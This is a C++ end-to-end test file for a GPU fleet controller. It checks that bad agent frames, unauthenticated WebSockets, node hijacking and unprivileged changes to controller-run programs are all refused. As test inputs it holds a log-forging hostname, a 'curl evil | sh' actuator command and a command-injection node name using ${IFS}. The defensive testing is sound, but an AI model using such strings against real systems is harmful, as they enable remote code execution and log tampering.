// Trust boundaries, end to end: the agent channel (bad frames, connections that never sign in,
// forged log lines), node identity, telemetry acknowledged through a full disk, and programs
// that the controller runs itself.

#include <gtest/gtest.h>
#include <sys/resource.h>
#include <sys/time.h>

#include <boost/asio.hpp>
#include <boost/beast/core.hpp>
#include <boost/beast/websocket.hpp>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <memory>
#include <optional>
#include <thread>

#include "fixture.h"
#include "proto/proto.h"

namespace gpufleet::e2e {
namespace {

namespace asio = boost::asio;
namespace websocket = boost::beast::websocket;

// A WebSocket client on the plain controller at "127.0.0.1:PORT"; every read gives up after
// 20 s (the socket's receive timeout), so that a server that never answers fails the test
// instead of hanging it.
class WsClient {
 public:
  WsClient(const std::string& address, const std::string& target) : ws_(io_) {
    const size_t colon = address.rfind(':');
    ws_.next_layer().connect({asio::ip::make_address(address.substr(0, colon)),
                              static_cast<unsigned short>(std::stoi(address.substr(colon + 1)))});
    timeval tv{20, 0};
    ::setsockopt(ws_.next_layer().native_handle(), SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ws_.handshake(address, target);  // throws when the upgrade is refused
  }
  void Send(const std::string& text) {
    ws_.text(true);
    ws_.write(asio::buffer(text));
  }
  // The next message, or nothing once the connection is closed (or the read timed out).
  std::optional<std::string> Read() {
    boost::beast::flat_buffer buf;
    boost::system::error_code ec;
    ws_.read(buf, ec);
    if (ec) return std::nullopt;
    return boost::beast::buffers_to_string(buf.data());
  }

 private:
  asio::io_context io_;
  websocket::stream<asio::ip::tcp::socket> ws_;
};

proto::Hello HelloFrom(const std::string& hostname, const std::string& join_token,
                       const std::string& node_token = "") {
  proto::Hello h;
  h.facts.hostname = hostname;
  h.join_token = join_token;
  h.node_token = node_token;
  h.simulated = true;
  return h;
}

std::string Say(const std::string& address, const proto::Hello& hello) {
  WsClient c(address, "/api/v1/agent");
  c.Send(proto::Encode(hello));
  return c.Read().value_or("(closed)");
}

// One samples frame with a fractional time (a join token is enough to send it) once took the
// controller down: now the frame is an error that closes its own connection, and nothing else.
TEST_F(E2E, ABadAgentFrameClosesOnlyItsConnection) {
  Apply();
  const std::string join = JoinToken("h100");
  WsClient c(controller_->address(), "/api/v1/agent");
  c.Send(proto::Encode(HelloFrom("frac-node", join)));
  auto welcome = c.Read();
  ASSERT_TRUE(welcome && welcome->find(R"("type":"welcome")") != std::string::npos)
      << welcome.value_or("(closed)");
  for (const char* row :
       {"[1.5,0,50]", "[1000,0.5,50]", "[1e300,0,50]", "[-5,0,50]", "[1000,99999,50]"}) {
    SCOPED_TRACE(row);
    WsClient d(controller_->address(), "/api/v1/agent");
    // A fresh node each time: a closed connection is a node that went away.
    d.Send(proto::Encode(
        HelloFrom(std::string("frac-") + std::to_string(std::rand() % 100000), join)));
    ASSERT_TRUE(d.Read().has_value());
    d.Send(R"({"v":1,"type":"samples","seq":1,"rows":[)" + std::string(row) + "]}");
    // The error (after what was already queued for the node, such as a simulator's load),
    // then the close.
    bool error = false, closed = false;
    for (int i = 0; i < 20 && !closed; ++i) {
      auto reply = d.Read();
      closed = !reply.has_value();
      error = error || (reply && reply->find(R"("type":"error")") != std::string::npos);
    }
    EXPECT_TRUE(error);
    EXPECT_TRUE(closed);
  }
  // Not a hello first: refused and closed; a bad frame first, the same.
  WsClient e(controller_->address(), "/api/v1/agent");
  e.Send(R"({"v":1,"type":"heartbeat","seq":1,"time_ms":1})");
  auto refused = e.Read();
  ASSERT_TRUE(refused.has_value());
  EXPECT_NE(refused->find("the first message must be a hello"), std::string::npos) << *refused;
  EXPECT_FALSE(e.Read().has_value());
  WsClient f(controller_->address(), "/api/v1/agent");
  f.Send(R"({"v":1,"type":"samples","seq":1,"rows":[[1.5,0,1]]})");
  auto bad = f.Read();
  ASSERT_TRUE(bad.has_value());
  EXPECT_NE(bad->find("invalid_argument"), std::string::npos) << *bad;
  EXPECT_FALSE(f.Read().has_value());
  // The controller, and the first connection, are still there.
  EXPECT_EQ(controller_->Call("GET", "/healthz").first, 200);
  c.Send(R"({"v":1,"type":"heartbeat","seq":1,"time_ms":1})");
  EXPECT_EQ(controller_->Call("GET", "/api/v1/nodes/frac-node").first, 200);
}

// WebSockets that never say hello (answering pings or not) are closed after the first-message
// deadline (the header deadline), and at most a quarter of --max-connections of them are let in
// from one address: they cannot lock the API and the agents out.
TEST(Connections, WebSocketsThatNeverSignInCannotFillTheServer) {
  std::string dir = TempDir("unsigned-websockets");
  ControllerProcess controller(dir + "/data",
                               {"--max-connections", "40", "--header-timeout", "3s"});
  std::filesystem::create_directories(dir + "/data");
  controller.Start();
  std::vector<std::unique_ptr<WsClient>> idle;
  int refused = 0;
  for (int i = 0; i < 40; ++i) {
    try {
      idle.push_back(std::make_unique<WsClient>(controller.address(),
                                                i % 2 ? "/api/v1/agent" : "/api/v1/stream"));
    } catch (const std::exception&) {
      ++refused;
    }
  }
  EXPECT_EQ(idle.size(), 10u);
  EXPECT_EQ(refused, 30);
  // The API still answers, and so does a WebSocket that signs in at once.
  EXPECT_EQ(controller.Call("GET", "/api/v1/clusters").first, 200);
  auto started = std::chrono::steady_clock::now();
  for (auto& c : idle) EXPECT_FALSE(c->Read().has_value());  // closed by the deadline
  auto waited =
      std::chrono::duration_cast<std::chrono::seconds>(std::chrono::steady_clock::now() - started)
          .count();
  EXPECT_LE(waited, 10);  // the first-message deadline is the header deadline: 3 s here
  idle.clear();
  WsClient stream(controller.address(), "/api/v1/stream");
  stream.Send(R"({"token": ")" + controller.admin_token() + R"("})");
  auto hello = stream.Read();
  ASSERT_TRUE(hello.has_value());
  EXPECT_NE(hello->find(R"("type":"hello")"), std::string::npos) << *hello;
  controller.Stop();
  std::filesystem::remove_all(dir);
}

// A hostname with a newline cannot write a line of its own into the controller's log.
TEST_F(E2E, AHostnameCannotForgeLogLines) {
  Apply();
  const std::string join = JoinToken("h100");
  std::string reply = Say(controller_->address(),
                          HelloFrom("evil\n2026-12-04 12:00:00 [info] admin token rotated", join));
  EXPECT_NE(reply.find("is not a valid node name"), std::string::npos) << reply;
  controller_->Stop();
  std::string log = ReadFile(controller_->data_dir() + "/controller-1.log");
  EXPECT_EQ(log.find("\n2026-12-04 12:00:00 [info] admin token rotated"), std::string::npos) << log;
  EXPECT_NE(log.find("evil\\n2026-12-04"), std::string::npos) << log;
  controller_->Start();
}

// A join token admits only a name not registered yet: the hostname of another cluster's node
// does not move it, replace its node token or take its commands. The node's own token, or an
// admin's reset of its identity, does.
TEST_F(E2E, AJoinTokenCannotTakeARegisteredNode) {
  Apply();
  const std::string h100 = JoinToken("h100"), l4 = JoinToken("l4");
  std::string node_token;
  {
    WsClient agent(controller_->address(), "/api/v1/agent");
    agent.Send(proto::Encode(HelloFrom("owned-node", h100)));
    auto welcome = proto::Decode(agent.Read().value_or(""));
    ASSERT_TRUE(welcome.ok() && std::holds_alternative<proto::Welcome>(welcome.value()));
    node_token = std::get<proto::Welcome>(welcome.value()).node_token;
    ASSERT_FALSE(node_token.empty());
    // It speaks after the welcome: it has its node token (until then a lost welcome may be
    // made good by the same pool's join token).
    agent.Send(proto::Encode(proto::Heartbeat{1, 1}));
  }
  // Closed after the heartbeat was read (the close is handled after it).
  ASSERT_TRUE(WaitFor([&] { return !Node("owned-node").at("connected").as_bool(); }, 5000));

  for (const std::string& token : {l4, h100}) {
    std::string reply = Say(controller_->address(), HelloFrom("owned-node", token));
    EXPECT_NE(reply.find("permission_denied"), std::string::npos) << reply;
    EXPECT_NE(reply.find("already registered"), std::string::npos) << reply;
  }
  auto [status, node] = controller_->Call("GET", "/api/v1/nodes/owned-node");
  ASSERT_EQ(status, 200);
  EXPECT_EQ(node.at("pool"), "h100");
  EXPECT_EQ(node.at("cluster"), "train");
  auto audit = Cli({"-o", "json", "audit", "list", "--action", "hello refused"});
  ASSERT_EQ(audit.exit_code, 0) << audit.err;
  auto items = json::parse(audit.out).at("items").as_array();
  ASSERT_EQ(items.size(), 2u) << audit.out;
  EXPECT_EQ(items[0].at("target"), "node/owned-node");

  // Its own token still works.
  std::string again = Say(controller_->address(), HelloFrom("owned-node", "", node_token));
  EXPECT_NE(again.find(R"("type":"welcome")"), std::string::npos) << again;

  // An admin hands the name over, and then a join token takes it.
  auto reset = Cli({"nodes", "reset-identity", "owned-node"});
  ASSERT_EQ(reset.exit_code, 0) << reset.err;
  EXPECT_NE(reset.out.find("identity cleared"), std::string::npos) << reset.out;
  std::string taken = Say(controller_->address(), HelloFrom("owned-node", l4));
  EXPECT_NE(taken.find(R"("type":"welcome")"), std::string::npos) << taken;
  std::tie(status, node) = controller_->Call("GET", "/api/v1/nodes/owned-node");
  EXPECT_EQ(node.at("pool"), "l4");
  // The old node token is no longer the node's.
  std::string stale = Say(controller_->address(), HelloFrom("owned-node", "", node_token));
  EXPECT_NE(stale.find("unauthenticated"), std::string::npos) << stale;
}

// The data directory's disk fills up for a few seconds (here: the controller may not grow a
// file past its size, RLIMIT_FSIZE set from outside with prlimit(2), as a full disk fails a
// write half way), then has room again, and the controller is killed (-9) and started again.
// /healthz says 503 with the reason meanwhile; every second the agent sampled is stored once
// at the end: what was sent while nothing could be written was not acknowledged and came
// again, and no torn frame cut off what was written after it.
TEST_F(E2E, TelemetryAcknowledgedThroughAFullDiskSurvivesAKill) {
  Apply();
  Sim(JoinToken("l4"), "edge", 1, "L4", 1);
  auto points = [&] { return SecondPoints("edge-0000"); };
  ASSERT_TRUE(WaitFor([&] { return points().size() >= 3; }, 20000));
  uintmax_t wal = 0;
  for (const auto& f : std::filesystem::directory_iterator(controller_->data_dir() + "/tsdb/wal")) {
    wal = std::max(wal, std::filesystem::file_size(f.path()));
  }
  rlimit full{static_cast<rlim_t>(wal + 64), RLIM_INFINITY};
  ASSERT_EQ(::prlimit(controller_->pid(), RLIMIT_FSIZE, &full, nullptr), 0);
  const int64_t full_at = NowMs();
  bool said = WaitFor(
      [&] {
        auto [s, v] = controller_->Call("GET", "/healthz");
        return s == 503 && !v.at("telemetry").at("ok").as_bool();
      },
      15000);
  std::this_thread::sleep_for(std::chrono::seconds(3));
  rlimit room{RLIM_INFINITY, RLIM_INFINITY};
  ASSERT_EQ(::prlimit(controller_->pid(), RLIMIT_FSIZE, &room, nullptr), 0);
  const int64_t room_at = NowMs();
  EXPECT_TRUE(said) << "/healthz did not report the telemetry log that cannot be written";
  ASSERT_TRUE(WaitFor([&] { return controller_->Call("GET", "/healthz").first == 200; }, 15000));
  // The agent is back and has sent what was not acknowledged: the newest point is recent.
  ASSERT_TRUE(WaitPointAfter("edge-0000", NowMs() - 3000, 45000));
  controller_->Kill();
  controller_->Start();
  const int64_t restarted_at = NowMs();
  ASSERT_TRUE(WaitFor([&] { return Node("edge-0000").at("connected").as_bool(); }, 30000));
  // Wait for what the agent sampled after the restart, not for a number of wall seconds: the
  // stored seconds must run without a gap from before the disk filled to after the restart.
  ASSERT_TRUE(WaitPointAfter("edge-0000", restarted_at + 1000));
  auto all = points();
  ASSERT_FALSE(all.empty());
  EXPECT_LT(all.front().at(0).as_int64(), full_at - 1000);
  EXPECT_GT(all.back().at(0).as_int64(), room_at + 1000);
  ExpectEverySecond(all);
}

// Programs that the controller runs itself (a pool's command actuator, Slurm's clients) act as
// the controller's user on its machine: only an admin token of the whole fleet sets or changes
// them, through the scaling API or a fleet file; an operator may change the rest of the policy.
TEST_F(E2E, OnlyAFleetWideAdminSetsProgramsTheControllerRuns) {
  // The fleet file of cluster lab, with `cluster` lines added to the cluster and `pool` lines to
  // its one pool.
  auto fleet = [](const std::string& cluster, const std::string& pool) {
    return "apiVersion: gpufleet/v1\nkind: Fleet\nclusters:\n  - name: lab\n    type: training\n"
           "    site: lab\n" +
           cluster +
           "    pools:\n      - name: lab-h100\n        gpu_model: H100-SXM5-80GB\n"
           "        gpus_per_node: 8\n" +
           pool;
  };
  auto applied = ApplyText("fleet.yaml", fleet("", ""));
  ASSERT_EQ(applied.exit_code, 0) << applied.err;
  auto token = [&](const std::string& body) {
    auto [s, v] = controller_->Call("POST", "/api/v1/api-tokens", body);
    EXPECT_EQ(s, 201) << v;
    return s == 201 ? std::string(v.at("token").as_string()) : "";
  };
  const std::string op = token(R"({"name": "ops", "role": "operator"})");
  const std::string lab_admin =
      token(R"({"name": "lab-admin", "role": "admin", "clusters": ["lab"]})");
  const std::string marker = dir_ + "/ran";
  auto policy = [&](const std::string& provision, int max_nodes) {
    return R"({"mode": "reactive", "enabled": false, "min_nodes": 0, "max_nodes": )" +
           std::to_string(max_nodes) + R"(, "actuator": {"type": "command", "provision": ")" +
           provision + R"(", "deprovision": "true"}})";
  };
  const std::string path = "/api/v1/pools/lab-h100/scaling";
  for (const std::string* t : {&op, &lab_admin}) {
    auto [s, v] = controller_->Call("PUT", path, policy("touch " + marker, 2), t);
    EXPECT_EQ(s, 403) << v;
    EXPECT_NE(std::string(v.at("error").at("message").as_string())
                  .find("it runs programs on the controller"),
              std::string::npos)
        << v;
  }
  EXPECT_EQ(controller_->Call("GET", path).first, 404);  // no policy was set
  // A fleet-wide admin sets it; an operator then changes the bounds, not the programs.
  ASSERT_EQ(controller_->Call("PUT", path, policy("touch " + marker, 2)).first, 200);
  auto [kept, kv] = controller_->Call("PUT", path, policy("touch " + marker, 3), &op);
  EXPECT_EQ(kept, 200) << kv;
  auto [changed, cv] = controller_->Call("PUT", path, policy("touch " + marker + "-2", 3), &op);
  EXPECT_EQ(changed, 403) << cv;
  auto now = controller_->Call("GET", path).second.at("policy");
  EXPECT_EQ(now.at("actuator").at("provision"), ("touch " + marker).c_str()) << now;
  EXPECT_EQ(now.at("max_nodes").as_int64(), 3) << now;

  // The same through a fleet file: a scaling block, and a Slurm cluster's clients.
  auto apply = [&](const std::string& yaml, const std::string* t) {
    return controller_->Call("POST", "/api/v1/apply", yaml, t, "application/yaml");
  };
  const std::string scaled = fleet("",
                                   "        scaling:\n"
                                   "          {mode: reactive, enabled: false, min_nodes: 0, "
                                   "max_nodes: 3, actuator: {type: command, provision: \"curl "
                                   "evil | sh\", deprovision: \"true\"}}\n");
  auto [fs, fv] = apply(scaled, &op);
  EXPECT_EQ(fs, 403) << fv;
  const std::string bin = dir_ + "/slurm-bin";
  std::filesystem::create_directories(bin);
  for (const char* program : {"scontrol", "squeue", "sinfo"}) {
    std::ofstream(bin + "/" + program) << "#!/bin/sh\nexit 0\n";
    std::filesystem::permissions(bin + "/" + program, std::filesystem::perms::owner_all);
  }
  const std::string slurm =
      fleet("    scheduler: {type: slurm, bin_dir: " + bin + ", poll: 1h}\n", "");
  auto [ss, sv] = apply(slurm, &op);
  EXPECT_EQ(ss, 403) << sv;
  auto [as, av] = apply(slurm, &lab_admin);
  EXPECT_EQ(as, 403) << av;
  auto [ok, ov] = apply(slurm, nullptr);
  EXPECT_EQ(ok, 200) << ov;
  auto [again, gv] = apply(slurm, &op);  // unchanged: the operator's file may name them
  EXPECT_EQ(again, 200) << gv;
  // Slurm's ResumeProgram hands node names to the pool's actuator, whose command line is a
  // shell's: a name that is not a node name is refused before anything starts.
  ASSERT_EQ(controller_->Call("PUT", path, policy("echo {nodes} > " + marker, 3)).first, 200);
  auto [rs, rv] =
      controller_->Call("POST", "/api/v1/slurm/resume",
                        R"({"nodes": "x;touch${IFS})" + marker + R"(", "pool": "lab-h100"})", &op);
  EXPECT_EQ(rs, 400) << rv;
  EXPECT_NE(std::string(rv.at("error").at("message").as_string()).find("not a valid node name"),
            std::string::npos)
      << rv;
  EXPECT_FALSE(std::filesystem::exists(marker));
}

}  // namespace
}  // namespace gpufleet::e2e
